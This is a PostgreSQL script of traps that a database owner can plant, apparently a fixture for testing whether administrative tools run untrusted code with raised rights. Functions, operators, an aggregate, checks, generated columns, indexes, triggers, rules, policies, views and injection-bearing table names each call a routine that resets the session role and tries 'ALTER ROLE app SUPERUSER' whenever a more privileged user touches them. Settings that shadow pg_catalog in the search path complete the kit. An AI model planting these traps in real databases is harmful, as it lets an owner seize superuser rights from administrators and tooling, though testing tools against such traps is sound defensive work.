-- What the owner of a database can plant. Runs as that owner. Each trap calls public.spring, which does nothing for the
-- owner itself. For any other user, and for a session that can go back to one with more rights, it writes to the server's log
-- and tries to make the owner a superuser.

CREATE FUNCTION public.spring(trap text) RETURNS void LANGUAGE plpgsql VOLATILE AS $$
DECLARE
  caller text := current_user;
  may boolean;
BEGIN
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  SELECT rolsuper INTO may FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user;
  IF caller OPERATOR(pg_catalog.<>) 'app' OR may THEN
    RAISE LOG 'SPRUNG % as % (%)', trap, caller, current_user;
    BEGIN EXECUTE 'ALTER ROLE app SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  ELSE
    RAISE LOG 'HARMLESS % as %', trap, caller;
  END IF;
  BEGIN EXECUTE pg_catalog.format('SET ROLE %I', caller); EXCEPTION WHEN OTHERS THEN NULL; END;
END $$;
-- PostgreSQL believes that it is immutable, and may compute its value early.
CREATE FUNCTION public.sprung(trap text, n bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.spring(trap); RETURN n; END $$;
CREATE FUNCTION public.passes(trap text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.spring(trap); RETURN true; END $$;

-- Functions that resemble the catalog's: with other parameter types, which untyped literals prefer, and with the same ones.
CREATE FUNCTION public.pg_replication_slot_advance(text, text) RETURNS text LANGUAGE sql AS $$
  SELECT public.spring('function pg_replication_slot_advance(text, text)'); SELECT 'advanced' $$;
CREATE FUNCTION public.pg_create_logical_replication_slot(text, text) RETURNS text LANGUAGE sql AS $$
  SELECT public.spring('function pg_create_logical_replication_slot(text, text)'); SELECT 'created' $$;
CREATE FUNCTION public.pg_logical_slot_peek_changes(text, text, text, VARIADIC text[],
  OUT lsn pg_lsn, OUT xid xid, OUT data text) RETURNS SETOF record LANGUAGE plpgsql AS $$
  BEGIN PERFORM public.spring('function pg_logical_slot_peek_changes'); END $$;
CREATE FUNCTION public.to_regclass(text) RETURNS regclass LANGUAGE sql AS $$
  SELECT public.spring('function to_regclass'); SELECT pg_catalog.to_regclass($1) $$;
CREATE FUNCTION public.pg_table_size(regclass) RETURNS bigint LANGUAGE sql AS $$
  SELECT public.spring('function pg_table_size'); SELECT pg_catalog.pg_table_size($1) $$;
CREATE FUNCTION public.pg_table_size(oid) RETURNS bigint LANGUAGE sql AS $$
  SELECT public.spring('function pg_table_size(oid)'); SELECT pg_catalog.pg_table_size($1::regclass) $$;
CREATE FUNCTION public.pg_export_snapshot() RETURNS text LANGUAGE sql AS $$
  SELECT public.spring('function pg_export_snapshot'); SELECT pg_catalog.pg_export_snapshot() $$;
CREATE FUNCTION public.pg_is_in_recovery() RETURNS boolean LANGUAGE sql AS $$
  SELECT public.spring('function pg_is_in_recovery'); SELECT false $$;
CREATE FUNCTION public.current_setting(text) RETURNS text LANGUAGE sql AS $$
  SELECT public.spring('function current_setting'); SELECT pg_catalog.current_setting($1) $$;
CREATE FUNCTION public.format(text, VARIADIC name[]) RETURNS text LANGUAGE sql AS $$
  SELECT public.spring('function format'); SELECT pg_catalog.format($1, VARIADIC $2::text[]) $$;
CREATE FUNCTION public.quote_ident(text) RETURNS text LANGUAGE sql AS $$
  SELECT public.spring('function quote_ident'); SELECT pg_catalog.quote_ident($1) $$;
CREATE FUNCTION public.encode(bytea, text) RETURNS text LANGUAGE sql AS $$
  SELECT public.spring('function encode'); SELECT pg_catalog.encode($1, $2) $$;

-- Operators, and an aggregate.
CREATE FUNCTION public.unlike(name, name) RETURNS boolean LANGUAGE sql AS $$
  SELECT public.spring('operator !~ (name, name)'); SELECT $1::text !~ $2::text $$;
CREATE OPERATOR public.!~ (LEFTARG = name, RIGHTARG = name, FUNCTION = public.unlike);
CREATE FUNCTION public.differs(name, name) RETURNS boolean LANGUAGE sql AS $$
  SELECT public.spring('operator <> (name, name)'); SELECT $1::text <> $2::text $$;
CREATE OPERATOR public.<> (LEFTARG = name, RIGHTARG = name, FUNCTION = public.differs);
CREATE FUNCTION public.same("char", "char") RETURNS boolean LANGUAGE sql AS $$
  SELECT public.spring('operator = (char, char)'); SELECT $1::text OPERATOR(pg_catalog.=) $2::text $$;
CREATE OPERATOR public.= (LEFTARG = "char", RIGHTARG = "char", FUNCTION = public.same);
CREATE FUNCTION public.one_more(bigint) RETURNS bigint LANGUAGE plpgsql AS $$
  BEGIN PERFORM public.spring('aggregate count'); RETURN $1 + 1; END $$;
CREATE AGGREGATE public.count(*) (SFUNC = public.one_more, STYPE = bigint, INITCOND = '0');

-- A table that a restore brings back: everything that runs when rows come in.
CREATE DOMAIN public.amount AS bigint CHECK (public.passes('domain''s check'));
CREATE TYPE public.fare AS (euros integer);
CREATE FUNCTION public.fare_text(public.fare) RETURNS text LANGUAGE sql IMMUTABLE AS $$
  SELECT public.sprung('cast', 1)::text $$;
CREATE CAST (public.fare AS text) WITH FUNCTION public.fare_text(public.fare) AS IMPLICIT;
CREATE TABLE public.carried (
  id bigint PRIMARY KEY,
  amount public.amount,
  fare public.fare,
  twice bigint GENERATED ALWAYS AS (public.sprung('generated column', id)) STORED,
  shown text GENERATED ALWAYS AS (fare::text) STORED,
  CONSTRAINT checked CHECK (public.passes('table''s check'))
);
INSERT INTO public.carried SELECT n, n, ROW(n)::public.fare FROM generate_series(1, 42) AS n;
CREATE INDEX folded ON public.carried ((public.sprung('constant in an index', 1) + id));
CREATE INDEX part ON public.carried (id) WHERE public.passes('index''s predicate');
CREATE INDEX computed ON public.carried ((public.sprung('index''s expression', id)));
CREATE STATISTICS public.kept ON (public.sprung('statistics', 1) + id), id FROM public.carried;
CREATE FUNCTION public.triggered() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN PERFORM public.spring('trigger'); RETURN NEW; END $$;
CREATE TRIGGER planted BEFORE INSERT OR UPDATE ON public.carried FOR EACH ROW EXECUTE FUNCTION public.triggered();
CREATE RULE planted AS ON INSERT TO public.carried DO ALSO SELECT public.spring('rule');
CREATE TABLE public.secured (id bigint, CHECK (public.passes('check of a table with policies')));
INSERT INTO public.secured SELECT n FROM generate_series(1, 7) AS n;
ALTER TABLE public.secured ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.secured FORCE ROW LEVEL SECURITY;
CREATE POLICY planted ON public.secured USING (public.passes('row security policy'));
CREATE TABLE public.parent (id bigint, at date) PARTITION BY RANGE (at);
CREATE TABLE public.child PARTITION OF public.parent (CHECK (public.passes('partition''s check')))
  FOR VALUES FROM ('2026-01-01') TO ('2027-01-01');
INSERT INTO public.parent VALUES (1, '2026-03-01'), (2, '2026-03-02');

-- A view in the place of a table that an operator's check reads.
CREATE VIEW public.orders AS SELECT id FROM public.carried WHERE public.passes('view');
CREATE MATERIALIZED VIEW public.summary AS SELECT public.sprung('materialized view', max(id)) AS id FROM public.carried;

-- Names that become SQL, or columns and rows of their own, in a text of rows.
CREATE TABLE public."a
(SELECT public.spring('name of a table')) AS planted --	7" (id bigint);
CREATE TABLE public."b'); SELECT public.spring('quote in a name'); --" (id bigint);
CREATE SCHEMA "c"", public";
CREATE TABLE "c"", public"."d	e" (id bigint);

-- Rights that later objects would have, and settings of every session in this database.
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON SCHEMAS TO PUBLIC;
ALTER DATABASE app SET search_path = public, pg_catalog;
ALTER DATABASE app SET standard_conforming_strings = off;
ALTER DATABASE app SET quote_all_identifiers = on;
ALTER DATABASE app SET row_security = on;
